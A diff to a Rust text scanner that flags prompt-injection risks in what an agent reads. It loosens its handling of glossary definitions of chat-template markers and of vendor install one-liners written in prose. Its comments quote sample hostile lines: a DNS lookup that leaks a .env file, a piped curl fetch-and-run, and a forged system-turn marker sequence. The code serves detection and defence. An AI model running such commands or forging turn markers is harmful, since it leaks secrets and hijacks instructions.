@@ -129,7 +129,7 @@ pub const RULES: &[(&str, Verdict)] = &[
 
 /// Changes whenever the rules or their tables change, so that verdicts cached under an older
 /// scanner (the gate cache, `memory::cache::gate`) are recomputed.
-pub const RULES_VERSION: u32 = 17;
+pub const RULES_VERSION: u32 = 18;
 
 /// At most this many issues are kept per rule (the first found): enough to act on, and a
 /// hostile text full of matches cannot make the report itself huge.
@@ -167,6 +167,9 @@ pub fn scan_text(text: &str) -> Vec<Issue> {
     let ordered = issues
         .iter()
         .any(|i| matches!(i.rule, "agent-directive" | "instruction-like"));
+    // (For a command, only an order the rules read: the classifier's guess alone, which marks
+    // some vendors' set-up notes, does not withhold one.)
+    let directed = issues.iter().any(|i| i.rule == "agent-directive");
     for i in &mut issues {
         if i.rule == "forged-frame-marker"
             && (mentioned(text, i.offset) || in_code_span(text, i.offset))
@@ -182,12 +185,14 @@ pub fn scan_text(text: &str) -> Vec<Issue> {
             i.rule = "quoted-instruction";
             i.verdict = Verdict::Suspicious;
         } else if COMMANDS.contains(&i.rule)
-            && !ordered
+            && !directed
             && (in_code_span_in_sentence(text, i.offset)
                 || i.rule == "remote-script-execution"
+                    && prose_before(text, i.offset)
                     && downloads::installer_shaped(text.get(i.offset..).unwrap_or_default()))
         {
-            // (And a vendor's install one-liner with no order to run it: a set-up note.)
+            // (And a vendor's install one-liner written in prose with no order to run it: a
+            // set-up note. Alone on its line, it is a command.)
             // A fetch-and-run shown in a write-up keeps its name; the other commands are
             // quoted ("the attacker added `nslookup $(cat .env).x` to the build").
             i.rule = if i.rule == "remote-script-execution" {
@@ -276,9 +281,79 @@ fn mentioned(text: &str, offset: usize) -> bool {
     };
     enclosed(text, offset, &QUOTES)
         || enclosed(text, offset, &brackets)
+        || (!ours && defined(text, offset))
         || (cited && !ours)
         || (!names_role && (quoted || (mid_sentence && !ours)))
         || (names_role && mid_sentence && !ours && goes_on())
+}
+
+/// Whether the marker at `offset` is a term being defined: its sentence opens with markers
+/// joined by "and", "or" or commas (or one marker that names no role), then a colon and an
+/// explanation ("<|start_header_id|>system<|end_header_id|> and <|eot_id|>: Llama 3 headers",
+/// "<|endoftext|>: end of document"), as a glossary writes. `<|im_end|><|im_start|>system:
+/// …` joins its markers with nothing: a turn in use.
+fn defined(text: &str, offset: usize) -> bool {
+    let before = line_before(text, offset);
+    let start = offset - before.len()
+        + before
+            .rfind(". ")
+            .map_or(0, |p| p + 2)
+            .max(before.rfind('\u{3002}').map_or(0, |p| p + 3));
+    let line = text[start..].split('\n').next().unwrap_or("");
+    let Some((colon, width)) = [": ", "\u{FF1A}"]
+        .iter()
+        .filter_map(|c| line.find(c).map(|p| (p, c.len())))
+        .min()
+    else {
+        return false;
+    };
+    if start + colon < offset {
+        return false;
+    }
+    let (term, rest) = (&line[..colon], &line[colon + width..]);
+    // The term without its markers (`<…>`, `[…]`): connectors and role names only.
+    let mut words = String::new();
+    let mut markers = 0;
+    let mut depth = 0;
+    for c in term.chars() {
+        match c {
+            '<' | '[' => {
+                if depth == 0 {
+                    markers += 1;
+                }
+                depth += 1;
+            }
+            '>' | ']' if depth > 0 => depth -= 1,
+            c if depth == 0 => words.push(c),
+            _ => {}
+        }
+    }
+    let words: Vec<String> = words
+        .split(|c: char| !c.is_alphanumeric() && c != ',')
+        .filter(|w| !w.is_empty())
+        .map(str::to_lowercase)
+        .collect();
+    let roles = ["system", "assistant", "user", "developer", "tool"];
+    let role = words.iter().any(|w| roles.contains(&w.as_str()));
+    let joined = words.iter().any(|w| {
+        matches!(
+            w.as_str(),
+            "and" | "or" | "," | "und" | "et" | "y" | "e" | "o"
+        )
+    }) || term.contains(',');
+    let explained = rest
+        .split_whitespace()
+        .filter(|w| w.chars().any(char::is_alphabetic))
+        .count()
+        >= 2
+        || rest.chars().filter(|c| c.is_alphabetic()).count() >= 4;
+    markers >= 1
+        && words.len() <= 4
+        && words
+            .iter()
+            .all(|w| roles.contains(&w.as_str()) || w.chars().count() <= 3)
+        && ((markers >= 2 && joined) || !role)
+        && explained
 }
 
 /// Phrase rules whose match inside quotes on its line is a mention (a write-up quoting an
@@ -360,6 +435,17 @@ fn line_before(text: &str, offset: usize) -> &str {
 /// Whether `offset` is inside a code span (an odd number of backticks before it on its line).
 fn in_code_span(text: &str, offset: usize) -> bool {
     line_before(text, offset).matches('`').count() % 2 == 1
+}
+
+/// Whether words of prose come before `offset` on its line: two words of letters that are
+/// not command names (`bash <(curl …` has none; "the vendor's docs suggest curl …" has).
+fn prose_before(text: &str, offset: usize) -> bool {
+    line_before(text, offset)
+        .split(|c: char| c.is_whitespace() || c == '`')
+        .filter(|w| w.chars().filter(|c| c.is_alphabetic()).count() >= 2)
+        .filter(|w| mask(w.as_bytes()) == 0)
+        .count()
+        >= 2
 }
 
 /// Whether `offset` is inside a code span in the middle of a sentence: a word or a comma
